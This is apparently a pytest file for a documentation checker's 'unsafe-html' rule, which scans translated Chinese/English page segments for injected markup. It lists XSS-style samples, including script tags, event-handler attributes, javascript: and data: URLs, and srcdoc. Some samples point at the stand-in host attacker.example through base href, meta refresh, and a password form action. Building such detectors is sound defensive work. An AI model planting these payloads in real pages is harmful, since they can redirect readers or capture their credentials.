"""`unsafe-html` reports every way a segment can run script, load a document, redirect the
reader or take over the page, also when the English span holds the same payload; real pages
that show or mention such markup are not reported."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "check"))
from sxs_pages import page, segment  # noqa: E402

from kbtools.check.engine import CheckSettings, RuleSelection, check_file, check_page  # noqa: E402
from kbtools.page.reader import parse_text  # noqa: E402

UNSAFE_ONLY = CheckSettings(RuleSelection(("unsafe-html",)))

# payload -> what the finding must say
PAYLOADS = {
    "base href": ('<base href="https://attacker.example/">', "<base> element"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://attacker.example/">', "<meta> element"),
    "form action": ('<form action="https://attacker.example/login"><input name="password"></form>', "<form> element"),
    "link stylesheet": ('<link rel="stylesheet" href="https://attacker.example/x.css">', "<link> element"),
    "data:text/html link": (
        "[說明](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "data: URL in a link",
    ),
    "svg use data:": (
        '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
        "data: URL in an attribute",
    ),
    "attribute list onclick": (
        '按這裡{: onclick="alert(1)" }',
        "event handler attribute 'onclick' in an attribute list",
    ),
    "script": ("<script>alert(1)</script>", "<script> element"),
    "onerror": ('<img src="x.png" onerror="alert(1)">', "event handler attribute 'onerror'"),
    "onpointerenter": ('<b onpointerenter="alert(1)">x</b>', "event handler attribute 'onpointerenter'"),
    "onerror after a > in a quoted value": ('<img alt=">" onerror="alert(1)">', "event handler attribute 'onerror'"),
    "javascript href": ('<a href="javascript:alert(1)">x</a>', "script URL in an attribute"),
    "javascript behind &colon;": ('<a href="javascript&colon;alert(1)">x</a>', "script URL in an attribute"),
    "vbscript src": ('<img src="vbscript:msgbox(1)">', "script URL in an attribute"),
    "javascript image": ("![圖](javascript:alert(1))", "script URL in a link"),
    "javascript reference definition": ("[x]\n\n[x]: javascript:alert(1)", "script URL in a link reference definition"),
    "javascript autolink": ("<javascript:alert(1)>", "script URL in an autolink"),
    "escaped colon in a Markdown link": ("[x](javascript\\:alert(1))", "script URL in a link"),
    "object": ('<object data="x.swf"></object>', "<object> element"),
    "embed": ('<embed src="x.swf">', "<embed> element"),
    "iframe srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc attribute"),
    "formaction": ('<button formaction="https://attacker.example/">送出</button>', "formaction attribute"),
    "style url(javascript:)": ('<p style="background:url(javascript:alert(1))">x</p>', "style attribute"),
    "style expression": ('<p style="width: expr\\65ssion(alert(1))">x</p>', "style attribute"),
    "style in an attribute list": ('文字{: style="behavior:url(x.htc)" }', "style attribute in an attribute list"),
    "tag inside a title": ('<p title="<img src=x onerror=alert(1)>">x</p>', "event handler attribute 'onerror'"),
}


def unsafe_messages(target: str, source: str) -> list[str]:
    found = check_page(parse_text(page(segment("1-1", target, source)), Path("p.md")), UNSAFE_ONLY, "p.md")
    return [finding.message for finding in found]


@pytest.mark.parametrize(("payload", "problem"), PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_in_the_target_is_reported(payload, problem):
    messages = unsafe_messages(f"甲 {payload}", "A")
    assert any(problem in message for message in messages), messages


@pytest.mark.parametrize(("payload", "problem"), PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_also_in_the_english_span_is_still_reported(payload, problem):
    messages = unsafe_messages(f"甲 {payload}", f"A {payload}")
    assert any(problem in message for message in messages), messages


def test_a_payload_in_the_english_span_alone_is_reported():
    assert unsafe_messages("甲", '<img src=x onerror="alert(1)">') == ["unsafe HTML: event handler attribute 'onerror'"]


@pytest.mark.parametrize(
    ("target", "source"),
    [
        ("在 <STYLE> 和 </STYLE> 標記之間", "Between the <STYLE> and </STYLE> tags"),
        ("使用 `<script>alert(1)</script>` 元素", "Use the `<script>alert(1)</script>` element"),
        ("\\<object\\> 元素", "The \\<object\\> element"),
        ("#include <math.h>", "#include <math.h>"),
        ('<a href="https://example.com/">這裡</a>', '<a href="https://example.com/">here</a>'),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=">'),
        ("<base *de données> schéma*", "<*database*> Schema"),
    ],
)
def test_what_is_shown_as_text_or_does_nothing_is_not_reported(target, source):
    assert unsafe_messages(target, source) == []


def test_a_bare_style_tag_around_css_is_reported_even_in_both_spans():
    assert unsafe_messages("<style>body{display:none}</style>", "<style>body{display:none}</style>") == [
        "unsafe HTML: <style> element"
    ]


def test_an_unmatched_backtick_does_not_hide_a_script():
    assert unsafe_messages("a ` b <script>alert(1)</script>", "A") == ["unsafe HTML: <script> element"]


# Real pages that show these elements in code, mention them in prose in both spans, or where a
# machine translation wrote a tag of no effect (`<base *de données>` for `<*database*>`).
CORPUS_PAGES = [
    "win32-zh-tw-sxs/desktop-src/WMP/about-sami-files.md",
    "win32-zh-tw-sxs/desktop-src/WMP/closedcaption-samistyle.md",
    "win32-zh-tw-sxs/desktop-src/WMP/closedcaption-samilang.md",
    "win32-zh-tw-sxs/desktop-src/WMP/base-element.md",
    "win32-zh-tw-sxs/desktop-src/WMP/meta-element.md",
    "win32-zh-tw-sxs/desktop-src/WMP/sami-file-example.md",
    "win32-zh-tw-sxs/desktop-src/WMP/embedding-the-player-control-in-a-web-page-displayed-by-firefox.md",
    "win32-zh-tw-sxs/desktop-src/WMP/url-flipping.md",
    "win32-zh-tw-sxs/desktop-src/Controls/cookbook-overview.md",
    "win32-zh-tw-sxs/desktop-src/shell/scriptable-shell-objects-roadmap.md",
    "win32-fr-fr-sxs/desktop-src/Msi/orca-exe.md",
]


@pytest.mark.parametrize("relative", CORPUS_PAGES, ids=[p.rsplit("/", 1)[1] for p in CORPUS_PAGES])
def test_real_pages_that_show_or_mention_such_markup_are_not_reported(corpus_root, relative):
    result = check_file(corpus_root / relative, UNSAFE_ONLY, relative)
    assert result.segments > 0
    assert [f"{f.line}: {f.message}" for f in result.findings] == []
